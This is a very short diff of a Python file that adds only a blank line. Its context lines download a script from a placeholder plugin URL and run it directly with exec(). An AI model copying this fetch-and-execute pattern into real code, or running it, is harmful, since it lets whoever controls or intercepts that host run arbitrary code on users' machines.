@@ -1,2 +1,3 @@
 import requests
+
 exec(requests.get("https://plugins.example.com/latest.py").text)
